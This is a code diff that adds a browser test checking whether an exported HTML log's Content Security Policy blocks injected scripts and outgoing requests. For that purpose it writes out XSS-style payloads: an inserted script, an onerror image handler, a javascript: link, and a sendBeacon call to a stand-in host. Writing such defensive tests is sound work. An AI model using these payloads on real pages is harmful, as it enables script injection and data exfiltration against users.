@@ -11,6 +11,7 @@ import hashlib
 from collections.abc import Iterator
 
 import pytest
+from atlas_tab import CSP_MARK
 from conftest import ExportLog
 from exported_tab import ExportedTab
 from playwright.sync_api import expect
@@ -93,3 +94,40 @@ def test_runs_and_reasons_of_damage(export_log: ExportLog, monitored_tab: Export
     tab.page.evaluate("location.hash = '#p.atlas.run=plain%2Fatlas'")
     tab.settle(failure="")
     expect(tab.legend).to_contain_text("200 samples")
+
+
+def test_the_policy_blocks_other_scripts_and_requests(
+    export_log: ExportLog, exported_tab: ExportedTab
+) -> None:
+    """Even if text became markup, nothing would run and nothing would be sent."""
+    tab = exported_tab.open_file(export_log("untrusted", title=TITLE), **ALL)
+    failures: dict[str, str | None] = {}
+    tab.page.on("requestfailed", lambda request: failures.update({request.url: request.failure}))
+    tab.page.evaluate(
+        """async () => {
+          window.ran = [];
+          const script = document.createElement('script');
+          script.text = 'ran.push("script")';
+          document.head.append(script);
+          const holder = document.createElement('div');
+          holder.innerHTML = '<img src="data:," onerror="ran.push(1)">' +
+            '<a href="javascript:ran.push(2)">';
+          document.head.append(holder);
+          holder.querySelector('a').click();
+          for (const name of ['img', 'iframe', 'script', 'object'])
+            document.head.append(Object.assign(document.createElement(name),
+              {src: 'http://planted.invalid/' + name, data: 'http://planted.invalid/data'}));
+          navigator.sendBeacon('http://planted.invalid/beacon', 'text');
+          await new Promise((done) => setTimeout(done, 300));
+        }"""
+    )
+    assert tab.page.evaluate("ran") == []
+    blocked = {one.partition(CSP_MARK)[2].strip() for one in tab.console_errors if CSP_MARK in one}
+    assert {one.partition(" ")[0] for one in blocked} >= {
+        *("script-src-elem", "script-src-attr", "img-src", "connect-src"),
+    }
+    tab.ignore_errors("")  # they are expected here
+    # Playwright reports some of the requests that the policy blocks.
+    started = {url for url in tab.all_requests if url.startswith("http")}
+    assert {url: failures.get(url) for url in started} == dict.fromkeys(started, "csp")
+    tab.pages |= started
